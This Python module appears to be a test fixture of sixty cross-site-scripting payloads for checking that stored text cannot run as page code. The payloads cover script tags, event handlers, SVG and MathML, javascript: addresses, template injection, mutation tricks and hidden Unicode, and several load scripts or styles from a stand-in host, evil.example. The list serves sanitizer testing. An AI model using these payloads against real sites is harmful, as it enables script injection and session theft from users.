"""Sixty ways in which a stored text may try to become part of a page. Each calls `window.owned(n)` or `alert` if it runs,
or leaves an element marked `pwned` behind."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # script tags
    "<script>window.owned(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>window.owned(4)</script>",
    "</script><script>window.owned(5)</script>",
    '"><script>window.owned(6)</script>',
    "<script type=module>window.owned(7)</script>",
    "<<script>window.owned(8)//<</script>",
    # event handlers
    "<img src=x class=pwned onerror=window.owned(9)>",
    "<img/src/onerror=alert(10)>",
    '<body onload="window.owned(11)">',
    "<input autofocus class=pwned onfocus=window.owned(12)>",
    "<details open class=pwned ontoggle=window.owned(13)>",
    "<video class=pwned><source onerror=window.owned(14)></video>",
    "<audio src=x class=pwned onerror=window.owned(15)>",
    "<marquee class=pwned onstart=window.owned(16)>x</marquee>",
    '" onmouseover="window.owned(17)" class="pwned',
    "' autofocus onfocus='window.owned(18)' x='",
    "<a class=pwned onpointerenter=window.owned(19)>hover me</a>",
    "<div class=pwned onanimationstart=window.owned(20) style='animation:pulse 1s'>",
    # svg and mathml
    "<svg class=pwned onload=window.owned(21)>",
    "<svg><script>window.owned(22)</script></svg>",
    "<svg><animate onbegin=window.owned(23) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.owned(24)'><text class=pwned>x</text></a></svg>",
    "<svg><foreignObject><iframe class=pwned srcdoc='<script>top.owned(25)</script>'></foreignObject></svg>",
    "<math href='javascript:window.owned(26)' class=pwned>CLICK</math>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=owned(27)/>#x'/></svg>",
    # addresses
    "javascript:window.owned(28)",
    "JaVaScRiPt:alert(29)",
    "java\tscript:window.owned(30)",
    "data:text/html,<script>window.owned(31)</script>",
    "vbscript:msgbox(32)",
    "[click](javascript:window.owned(33))",
    "<a class=pwned href='javascript:window.owned(34)'>x</a>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.owned(36)'>",
    "<form class=pwned action='javascript:window.owned(37)'><button>x",
    "//evil.example/%2e%2e/x",
    # frames and objects
    "<iframe class=pwned srcdoc='<script>parent.owned(39)</script>'></iframe>",
    "<iframe class=pwned src='javascript:parent.owned(40)'></iframe>",
    "<object class=pwned data='data:text/html,<script>parent.owned(41)</script>'></object>",
    "<embed class=pwned src='javascript:window.owned(42)'>",
    # templates, htm and preact
    "${window.owned(43)}",
    "{{constructor.constructor('window.owned(44)')()}}",
    "`${alert(45)}`",
    "<${window.owned(46)} />",
    '{"type":"img","props":{"src":"x","class":"pwned","onerror":"window.owned(47)"},"key":null,"ref":null}',
    '{"__html":"<img class=pwned src=x onerror=window.owned(48)>"}',
    "dangerouslySetInnerHTML={__html:'<b class=pwned>49</b>'}",
    "__proto__",
    "constructor",
    # mutations of what was cleaned
    "<noscript><p title='</noscript><img class=pwned src=x onerror=window.owned(52)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img class=pwned src=x onerror=window.owned(53)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img class=pwned src onerror=owned(54)>'>",
    "<xmp><p title='</xmp><img class=pwned src=x onerror=window.owned(55)>'>",
    # style
    "<style>*{background:url(//evil.example/56)}</style>",
    "</style><link class=pwned rel=stylesheet href=//evil.example/57.css>",
    "<b class=pwned style='position:fixed;inset:0;background:url(javascript:owned(58))'>x</b>",
    # signs that turn or hide text
    "\u202e\u2066evil\u2069 gnp.\u202c<img class=pwned src=x onerror=window.owned(59)>",
    "<scr\u200bipt>window.owned(60)</scr\u200bipt>\ufeff\u2028\u2029",
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
